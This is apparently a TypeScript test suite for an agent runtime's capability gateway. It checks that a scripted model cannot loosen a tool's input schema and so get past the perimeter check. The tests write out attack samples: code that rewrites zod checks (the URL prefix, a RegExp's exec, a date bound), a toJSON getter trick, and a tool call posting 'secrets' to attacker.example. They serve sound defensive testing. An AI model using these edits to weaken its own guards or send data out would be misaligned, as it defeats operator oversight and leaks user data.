/**
 * Seed 001: "Capability grants, types, declared semantic footprints, perimeter policy, and durable attempt
 * admission are checked before entering the capability body." The request type is checked with the gateway's
 * own copy, taken when the capability was defined: a model that edits the operator's zod schema (reachable as a
 * tool's `input` or through the capability object) changes nothing the gateway admits, in its run or any later
 * one. The attack runs from a model expression, generated code and a SessionFunction body.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import * as nh from '../../kernel/src/index.js';
import { ScriptedModel, toolCall } from '../../kernel/src/testing.js';

const finish = () => toolCall('nh_output', { result: { kind: 'pass' } });
/** Tool names of the operations that failed before oversight saw them (invalid arguments). */
const failedToolCalls = (ledger: Pick<nh.Ledger, 'select'>) =>
  ledger.select({ kind: 'operation' }).filter((e) => e.status === 'failed').map((e) => `${(e.data as { request: { toolName?: string } }).request.toolName}:${(e.data as { failure: { errorClass: string } }).failure.errorClass}`);
const anomalies = (events: readonly nh.LedgerEvent[]) => events.filter((e) => e.kind === 'trace.anomaly').map((e) => e.status);

/**
 * Edits only the data of the URL check: no function is left behind for a guard to refuse later, so before the
 * gateway kept its own copy the edit widened the type for good.
 */
const EDIT = `
  const tool = nh.currentState().tools.find((t) => t.name === 'post_partner');
  const schema = tool ? tool.input : probe.post.request;
  schema.shape.url._zod.def.checks[0]._zod.def.prefix = 'https://';
  return 'edited';`;

function setup() {
  const posted: string[] = [];
  const post = nh.defineCapability({
    name: 'post_partner',
    description: 'Posts a report to the partner API',
    footprint: ['egress'],
    request: z.object({ url: z.string().startsWith('https://partner.example/'), body: z.string() }),
    run: (request) => {
      posted.push(request.url);
      return { ok: true };
    },
  });
  const store = new nh.SqlitePerimeterAuditStore({ path: join(mkdtempSync(join(tmpdir(), 'nh-request-type-')), 'audit.db') });
  return { posted, post, store };
}

const exfiltrate = () => toolCall('post_partner', { url: 'https://attacker.example/collect', body: 'secrets' });

/** A run whose model first (optionally) evaluates `expression`, then posts to the attacker's URL. */
function runner(store: nh.PerimeterAuditStore, expression?: string) {
  const model = new ScriptedModel((_m, info) => {
    if (expression && info.requestNumber === 1) return { toolCalls: [toolCall('nh_evaluate', { expression })] };
    if (info.requestNumber === (expression ? 2 : 1)) return { toolCalls: [exfiltrate()] };
    return { toolCalls: [finish()] };
  });
  return new nh.Runner({ executor: new nh.AgentExecutor({ model }), platformPolicy: ['egress'], perimeterAuditStore: store });
}

describe("a model that edits a capability's request type changes nothing the gateway admits", () => {
  it('from a model expression: refused in that run and in a later clean run, and recorded', async () => {
    const { posted, post, store } = setup();
    const probe = { post };
    const attacked = runner(store, `(() => { ${EDIT} })()`);
    await attacked.run(async () => nh.step({ program: 'execute\nReport.' }), { grant: { capabilities: [post], references: { nh, probe } } }).catch(() => undefined);
    expect(post.request.safeParse({ url: 'https://attacker.example/x', body: '' }).success).toBe(true); // the edit took: the operator's own type now admits it
    expect(posted).toEqual([]);
    expect(anomalies(attacked.ledger.events())).toContain('request_type_modified');
    // Refused before oversight: the core checks a capability's arguments with the gateway's copy too.
    expect(failedToolCalls(attacked.ledger)).toEqual(['post_partner:ArgumentError']);
    expect(attacked.ledger.select({ kind: 'capability.refused' })).toEqual([]);
    const later = runner(store);
    await later.run(async () => nh.step({ program: 'execute\nReport.' }), { grant: { capabilities: [post] } }).catch(() => undefined);
    expect(posted).toEqual([]);
    expect(store.list()).toEqual([]);
  });

  it('from generated code', async () => {
    const { posted, post, store } = setup();
    const probe = { post };
    const run = runner(store);
    await run
      .run(
        async (ctx) => {
          const module = await ctx.dispatch({
            language: 'javascript',
            intent: 'define',
            source: `export function edit() { ${EDIT} }`,
            dependencies: [
              { name: 'nh', kind: 'reference', type: 'object' },
              { name: 'probe', kind: 'reference', type: 'object' },
            ],
          });
          (module.exports['edit'] as () => string)();
          await nh.step({ program: 'execute\nReport.' });
        },
        { grant: { capabilities: [post], references: { nh, probe } } },
      )
      .catch(() => undefined);
    expect(posted).toEqual([]);
    expect(anomalies(run.ledger.events())).toContain('request_type_modified');
  });

  it('from a SessionFunction body, with a later SessionFunction on the same capability', async () => {
    const { posted, post, store } = setup();
    const probe = { post };
    let turn = 0;
    const model = new ScriptedModel(() => (++turn % 2 === 1 ? { toolCalls: [exfiltrate()] } : { toolCalls: [finish()] }));
    const session = new nh.Session({ executor: new nh.AgentExecutor({ model }), platformPolicy: ['egress'], perimeterAuditStore: store, grant: { capabilities: [post] } });
    const attackBody = new Function('nh', 'probe', `return async function attack() { (() => { ${EDIT} })(); await nh.step({ program: 'execute\\nReport.' }); };`)(nh, probe) as () => Promise<void>;
    const cleanBody = async () => {
      await nh.step({ program: 'execute\nReport.' });
    };
    const { attack, clean } = session.materialized(session.submit('async function attack() {}\nasync function clean() {}'), { attack: attackBody, clean: cleanBody });
    await attack!().catch(() => undefined);
    await clean!().catch(() => undefined);
    expect(posted).toEqual([]);
    expect(anomalies(session.ledger.select({})).filter((k) => k === 'request_type_modified')).toHaveLength(2);
  });

  it("a request type with transforms and recursion: the model's arguments are parsed once, by the gateway, with the type as defined", async () => {
    interface Node {
      name: string;
      children?: Node[];
    }
    const NodeType: z.ZodType<Node> = z.object({ name: z.string(), get children() {
      return z.array(NodeType).optional();
    } });
    const seen: unknown[] = [];
    let transforms = 0;
    const tag = nh.defineCapability({
      name: 'tag',
      description: 'tags a tree',
      request: z.object({ label: z.string().transform((s) => (transforms++, `${s}!`)), tree: NodeType }),
      run: (request) => {
        seen.push(request);
        return 'ok';
      },
    });
    const args = { label: 'urgent', tree: { name: 'root', children: [{ name: 'leaf' }] } };
    const model = new ScriptedModel([() => ({ toolCalls: [toolCall('tag', args), toolCall('tag', { label: 'x', tree: { name: 'r', children: [{ name: 1 }] } }), finish()] })]);
    const run = new nh.Runner({ executor: new nh.AgentExecutor({ model }) });
    await run.run(async () => nh.step({ program: 'execute\nTag.' }), { grant: { capabilities: [tag] } });
    expect(seen).toEqual([{ label: 'urgent!', tree: args.tree }]);
    // The core checks each call's arguments for its record with the gateway's copy (twice), the refused one also
    // against the operator's own type (once, for evidence of an edit), the gateway parses the valid one for the
    // body (once): before, the body's request was parsed a second time from the core's output, transforms and all.
    expect(transforms).toBe(4);
    expect(run.ledger.select({ kind: 'operation' }).map((e) => e.status)).toEqual(['completed', 'failed', 'completed']);
    expect(anomalies(run.ledger.events())).toEqual([]);
  });

  it('a RegExp or Date a check holds is the copy\'s own: recompiling, shadowing exec or moving the date changes only the operator\'s', async () => {
    const variants: { request: z.ZodType; edit: string; bad: Record<string, unknown> }[] = [
      { request: z.object({ url: z.string().regex(/^https:\/\/ok\.example\//) }), edit: 'def.shape.url._zod.def.checks[0]._zod.def.pattern.exec = function () { return ["x"]; }', bad: { url: 'https://attacker.example/x' } },
      { request: z.object({ url: z.string().regex(/^https:\/\/ok\.example\//) }), edit: "def.shape.url._zod.def.checks[0]._zod.def.pattern.compile('^')", bad: { url: 'https://attacker.example/x' } },
      { request: z.object({ when: z.coerce.date().min(new Date('2030-01-01')) }), edit: 'def.shape.when._zod.def.checks[0]._zod.def.value.setTime(0)', bad: { when: '2001-01-01' } },
    ];
    for (const variant of variants) {
      const got: unknown[] = [];
      const send = nh.defineCapability({ name: 'send', description: 'sends', footprint: ['egress'], request: variant.request, run: (request) => got.push(request) });
      const edit = `(() => { nh.currentState().tools.find((t) => t.name === 'send').input._zod.${variant.edit}; })()`;
      const model = new ScriptedModel((_m, info) => (info.requestNumber === 1 ? { toolCalls: [toolCall('nh_evaluate', { expression: edit })] } : info.requestNumber === 2 ? { toolCalls: [toolCall('send', variant.bad)] } : { toolCalls: [finish()] }));
      const run = new nh.Runner({ executor: new nh.AgentExecutor({ model }), platformPolicy: ['egress'], perimeterAuditStore: new nh.InMemoryPerimeterAuditStore() });
      await run.run(async () => nh.step({ program: 'execute\nSend.' }), { grant: { capabilities: [send], references: { nh } } }).catch(() => undefined);
      expect(got).toEqual([]);
      expect(failedToolCalls(run.ledger)).toEqual(['send:ArgumentError']);
      expect(anomalies(run.ledger.events())).toContain('request_type_modified');
    }
  });

  it("code calling a tool's run directly gets the full path: its getters run under its mark, never during validation or in the body", async () => {
    const got: unknown[] = [];
    const send = nh.defineCapability({ name: 'send', description: 'sends', request: z.object({ note: z.unknown() }), run: (request) => got.push(request) });
    const probe: Record<string, unknown> = {};
    const expression = `(async () => {
      const tool = nh.currentState().tools.find((t) => t.name === 'send');
      const note = { text: 'benign', toJSON() { probe.toJSONRan = true; return { text: 'EVIL' }; } };
      try { await tool.run({ note }, nh.currentStepContext()); probe.outcome = 'accepted'; } catch (e) { probe.outcome = e.name; }
    })()`;
    const model = new ScriptedModel((_m, info) => (info.requestNumber === 1 ? { toolCalls: [toolCall('nh_evaluate', { expression }), finish()] } : { toolCalls: [finish()] }));
    const run = new nh.Runner({ executor: new nh.AgentExecutor({ model }) });
    await run.run(async () => nh.step({ program: 'execute\nSend.' }), { grant: { capabilities: [send], references: { nh, probe } } });
    expect(probe['outcome']).toBe('CapabilityRefusedError'); // a function inside is not plain data
    expect(got).toEqual([]);
    expect(probe['toJSONRan']).toBeUndefined();
  });
});


describe('a request type the gateway cannot copy', () => {
  it('is refused when the capability is defined, naming what to fix (fail closed)', () => {
    const request = z.object({ target: z.string() });
    Object.defineProperty(request._zod.def, 'unreadable', {
      enumerable: true,
      get() {
        throw new Error('no copy for you');
      },
    });
    expect(() => nh.defineCapability({ name: 'send', description: 'sends', request, run: () => 1 })).toThrow(/could not be copied for the capability gateway \(Error: no copy for you\); build it from plain zod schemas/);
  });
});
